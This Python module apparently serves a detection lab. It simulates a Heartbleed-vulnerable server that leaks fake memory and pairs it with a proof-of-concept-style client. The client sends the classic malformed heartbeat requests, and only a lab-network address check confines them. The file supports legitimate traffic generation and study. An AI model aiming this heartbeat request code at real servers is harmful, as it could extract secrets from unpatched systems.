"""A *simulated* Heartbleed (CVE-2014-0160) target and a PoC-style client, for the lab only.

Debian's OpenSSL 3 has no TLS heartbeat support at all, so no real vulnerable server can run
in the lab. This module stands in for one at the wire level: it is **not** TLS, it has no
cryptography and it leaks no real memory. Both sides only exchange plaintext TLS records of
the shapes a vulnerable OpenSSL 1.0.1 server and the public PoCs (ssltest.py and its
descendants) put on the wire, so that flow features (sizes, counts, timing) are like those of
a real attempt.

``serve``: accepts TCP on a lab address; answers a ClientHello record with the record
sequence ServerHello (advertising the heartbeat extension), Certificate (a real certificate
chain from the lab's work folder), ServerKeyExchange (random ECDHE parameters and signature
bytes) and ServerHelloDone; then handles Heartbeat records (content type 24) received before
the handshake finishes, as OpenSSL 1.0.1 did:

* a well-formed request (payload and at least 16 bytes of padding fit the record) is echoed
  (RFC 6520);
* a request whose ``payload_length`` is larger than the record holds gets the bug's answer:
  ``payload_length`` bytes of "memory" (random junk with a few fake strings in it), in
  records of at most 16 kB;
* a request that fits but leaves no room for the padding is dropped silently (RFC 6520
  section 4), which is what the server in the shared Zeek capture did.

Every connection is bounded (idle timeout, record count, lifetime) and so is the number of
connections at once. The server refuses to bind outside the lab network and, when started
as root, drops to ``nobody`` right after binding.

``probe``: the attacker. ClientHello (TLS 1.1 or 1.2, a long cipher list, the heartbeat
extension), wait for ServerHelloDone, then either ``leak`` (several heartbeat requests of
3 bytes claiming ``payload_length`` 0x4000, each answered with ~16 kB) or ``oversized`` (one
16 kB heartbeat record with no padding, as in the Zeek ``heartbleed`` trace; the server stays
silent and the client hangs up after a few seconds). Prints one JSON line.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

LAB_NET = ipaddress.ip_network("10.213.0.0/16")
HANDSHAKE, CCS, ALERT, APPDATA, HEARTBEAT = 22, 20, 21, 23, 24
MAX_RECORD = 16384
IDLE_SECONDS = 15.0
CONN_SECONDS = 60.0
MAX_RECORDS = 64
MAX_CONNS = 32

# the cipher list of the classic PoC's ClientHello (ECDHE/DHE/RSA with AES, 3DES, RC4, ...)
CIPHERS = [0xc014, 0xc00a, 0xc022, 0xc021, 0x0039, 0x0038, 0x0088, 0x0087, 0xc00f, 0xc005,
           0x0035, 0x0084, 0xc012, 0xc008, 0xc01c, 0xc01b, 0x0016, 0x0013, 0xc00d, 0xc003,
           0x000a, 0xc013, 0xc009, 0xc01f, 0xc01e, 0x0033, 0x0032, 0x009a, 0x0099, 0x0045,
           0x0044, 0xc00e, 0xc004, 0x002f, 0x0096, 0x0041, 0xc011, 0xc007, 0xc00c, 0xc002,
           0x0005, 0x0004, 0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008, 0x0006, 0x0003,
           0x00ff]
LEAK_STRINGS = [b"GET /account HTTP/1.1\r\nHost: app.lab.internal\r\nCookie: session=",
                b"Authorization: Basic ", b"username=admin&password=", b"-----BEGIN RSA ",
                b"Set-Cookie: PHPSESSID=", b"X-Forwarded-For: 10.213.0.", b"\x00" * 64]


def in_lab(addr: str) -> bool:
    try:
        return ipaddress.ip_address(addr) in LAB_NET
    except ValueError:
        return False


def record(ctype: int, version: int, body: bytes) -> bytes:
    return struct.pack("!BHH", ctype, version, len(body)) + body


def handshake(htype: int, body: bytes) -> bytes:
    return struct.pack("!B", htype) + len(body).to_bytes(3, "big") + body


def recv_exact(sock: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = sock.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def read_record(sock: socket.socket) -> tuple[int, int, bytes]:
    ctype, version, length = struct.unpack("!BHH", recv_exact(sock, 5))
    if length > MAX_RECORD + 2048:
        raise ConnectionError("record too long")
    return ctype, version, recv_exact(sock, length)


# -- server ----------------------------------------------------------------------------------
def load_chain(path: str) -> list[bytes]:
    text = open(path).read()
    out, marker = [], "-----END CERTIFICATE-----"
    for block in text.split(marker)[:-1]:
        out.append(ssl.PEM_cert_to_DER_cert(block[block.index("-----BEGIN"):] + marker + "\n"))
    return out


def server_flight(version: int, offered: list[int], chain: list[bytes],
                  rng: random.Random) -> bytes:
    cipher = 0xc014 if 0xc014 in offered else (offered[0] if offered else 0x002f)
    ext = (struct.pack("!HHB", 0xff01, 1, 0)            # renegotiation_info
           + struct.pack("!HHBB", 0x000b, 2, 1, 0)       # ec_point_formats: uncompressed
           + struct.pack("!HHB", 0x000f, 1, 1))          # heartbeat: peer_allowed_to_send
    hello = (struct.pack("!H", version) + struct.pack("!I", int(time.time())) + rng.randbytes(28)
             + b"\x20" + rng.randbytes(32) + struct.pack("!HB", cipher, 0)
             + struct.pack("!H", len(ext)) + ext)
    certs = b"".join(len(c).to_bytes(3, "big") + c for c in chain)
    cert = len(certs).to_bytes(3, "big") + certs
    point = b"\x04" + rng.randbytes(64)
    sig_alg = struct.pack("!H", 0x0601) if version >= 0x0303 else b""
    ske = (struct.pack("!BHB", 3, 0x0017, len(point)) + point + sig_alg
           + struct.pack("!H", 256) + rng.randbytes(256))
    return b"".join(record(HANDSHAKE, version, handshake(t, b)) for t, b in (
        (2, hello), (11, cert), (12, ske), (14, b"")))


def leaked_memory(n: int, rng: random.Random) -> bytes:
    out = bytearray()
    while len(out) < n:
        if rng.random() < 0.3:
            out += rng.choice(LEAK_STRINGS) + rng.randbytes(16).hex().encode()
        else:
            out += rng.randbytes(rng.randint(16, 512))
    return bytes(out[:n])


def serve_conn(conn: socket.socket, chain: list[bytes], seed: int) -> None:
    rng = random.Random(seed)
    end = time.time() + CONN_SECONDS
    conn.settimeout(IDLE_SECONDS)
    version = 0x0302
    try:
        for _ in range(MAX_RECORDS):
            if time.time() > end:
                break
            ctype, rversion, body = read_record(conn)
            if ctype == HANDSHAKE and body[:1] == b"\x01" and len(body) > 40:
                version = min(max(struct.unpack("!H", body[4:6])[0], 0x0301), 0x0303)
                sid = body[38]
                pos = 39 + sid
                n = struct.unpack("!H", body[pos:pos + 2])[0]
                offered = [struct.unpack("!H", body[pos + 2 + i:pos + 4 + i])[0]
                           for i in range(0, n, 2)]
                conn.sendall(server_flight(version, offered, chain, rng))
            elif ctype == HEARTBEAT and len(body) >= 3 and body[0] == 1:
                claimed = struct.unpack("!H", body[1:3])[0]
                room = len(body) - 3
                if claimed > room:  # the bug: trusts payload_length, copies past the record
                    data = b"\x02" + body[1:3] + (body[3:] + leaked_memory(claimed, rng))[
                        :claimed] + rng.randbytes(16)
                elif room - claimed >= 16:  # well-formed: echo the payload
                    data = b"\x02" + body[1:3 + claimed] + rng.randbytes(16)
                else:  # no room for padding: RFC 6520 says discard silently
                    continue
                conn.sendall(b"".join(record(HEARTBEAT, version, data[i:i + MAX_RECORD])
                                      for i in range(0, len(data), MAX_RECORD)))
            elif ctype == ALERT:
                break
            # ChangeCipherSpec, ClientKeyExchange, application data: ignored (no crypto here)
    except (OSError, ConnectionError, struct.error, IndexError):
        pass
    finally:
        conn.close()


def serve(a) -> int:
    if not in_lab(a.bind):
        print(f"refusing to bind outside the lab network: {a.bind}", file=sys.stderr)
        return 2
    chain = load_chain(a.cert)
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((a.bind, a.port))
    srv.listen(64)
    if os.geteuid() == 0:  # bound to the privileged port; drop root now
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    slots = threading.BoundedSemaphore(MAX_CONNS)
    rng = random.Random(a.seed)
    while True:
        conn, peer = srv.accept()
        if not in_lab(peer[0]) or not slots.acquire(blocking=False):
            conn.close()
            continue

        def run(c=conn, s=rng.randrange(1 << 30)):  # noqa: B008 - this connection's own seed
            try:
                serve_conn(c, chain, s)
            finally:
                slots.release()

        threading.Thread(target=run, daemon=True).start()


# -- client ------------------------------------------------------------------------------------
def client_hello(version: int, rng: random.Random) -> bytes:
    ciphers = b"".join(struct.pack("!H", c) for c in CIPHERS)
    ext = (struct.pack("!HHBBBB", 0x000b, 4, 3, 0, 1, 2)                    # ec_point_formats
           + struct.pack("!HHH", 0x000a, 0x1c, 0x1a)                         # supported_groups
           + b"".join(struct.pack("!H", g) for g in (0x0017, 0x0019, 0x001c, 0x001b, 0x0018,
                                                     0x001a, 0x0016, 0x000e, 0x000d, 0x000b,
                                                     0x000c, 0x0009, 0x000a))
           + struct.pack("!HH", 0x0023, 0)                                   # session ticket
           + struct.pack("!HHB", 0x000f, 1, 1))                              # heartbeat
    if version >= 0x0303:
        ext += struct.pack("!HHH", 0x000d, 0x0a, 0x08) + bytes.fromhex("0601050104010201")
    body = (struct.pack("!H", version) + struct.pack("!I", int(time.time())) + rng.randbytes(28)
            + b"\x00" + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00"
            + struct.pack("!H", len(ext)) + ext)
    return record(HANDSHAKE, 0x0301 if version < 0x0303 else version, handshake(1, body))


def probe(a) -> int:
    if not in_lab(a.host):
        print(f"refusing target outside the lab network: {a.host}", file=sys.stderr)
        return 2
    rng = random.Random(a.seed)
    version = {"1.1": 0x0302, "1.2": 0x0303}[a.tls]
    out = {"target": f"{a.host}:{a.port}", "mode": a.mode, "hello_done": False, "leaked": 0,
           "beats": 0}
    s = socket.create_connection((a.host, a.port), timeout=10)
    try:
        s.sendall(client_hello(version, rng))
        deadline = time.time() + 10
        while time.time() < deadline and not out["hello_done"]:
            ctype, _, body = read_record(s)
            if ctype == HANDSHAKE:
                pos = 0
                while pos + 4 <= len(body):  # walk the handshake messages in the record
                    if body[pos] == 14:
                        out["hello_done"] = True
                    pos += 4 + int.from_bytes(body[pos + 1:pos + 4], "big")
            elif ctype == ALERT:
                break
        if not out["hello_done"]:
            return 1
        if a.mode == "leak":
            for _ in range(min(a.beats, 16)):
                s.sendall(record(HEARTBEAT, version, struct.pack("!BH", 1, a.length)))
                out["beats"] += 1
                want, got = a.length + 19, 0
                s.settimeout(3)
                try:
                    while got < want:
                        ctype, _, body = read_record(s)
                        if ctype != HEARTBEAT:
                            break
                        got += len(body)
                except (TimeoutError, ConnectionError):
                    pass
                out["leaked"] += max(0, got - 19)
                time.sleep(rng.uniform(0.05, a.pause))
        else:  # one full-size heartbeat record with no room for padding
            n = MAX_RECORD - 19
            s.sendall(record(HEARTBEAT, version, struct.pack("!BH", 1, n) + rng.randbytes(n)))
            out["beats"] = 1
            s.settimeout(max(0.5, a.hold))
            try:
                while True:
                    ctype, _, body = read_record(s)
                    out["leaked"] += len(body)
            except (TimeoutError, ConnectionError):
                pass
        time.sleep(rng.uniform(0, 0.3))
    except (OSError, ConnectionError) as exc:
        out["error"] = str(exc)
    finally:
        s.close()
    print(json.dumps(out))
    return 0 if out["hello_done"] else 1


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve", help="the simulated vulnerable endpoint")
    s.add_argument("--bind", required=True)
    s.add_argument("--port", type=int, default=443)
    s.add_argument("--cert", required=True, help="PEM certificate chain to send")
    s.add_argument("--seed", type=int, default=0)
    p = sub.add_parser("probe", help="the PoC-style attacker")
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, default=443)
    p.add_argument("--mode", choices=["leak", "oversized"], default="leak")
    p.add_argument("--beats", type=int, default=3, help="leak: heartbeat requests (max 16)")
    p.add_argument("--length", type=lambda x: int(x, 0), default=0x4000,
                   help="leak: payload_length claimed (default 0x4000)")
    p.add_argument("--pause", type=float, default=1.0, help="leak: max pause between beats")
    p.add_argument("--hold", type=float, default=7.0, help="oversized: wait before hanging up")
    p.add_argument("--tls", choices=["1.1", "1.2"], default="1.1")
    p.add_argument("--seed", type=int, default=0)
    a = ap.parse_args(argv)
    return serve(a) if a.cmd == "serve" else probe(a)


if __name__ == "__main__":
    sys.exit(main())
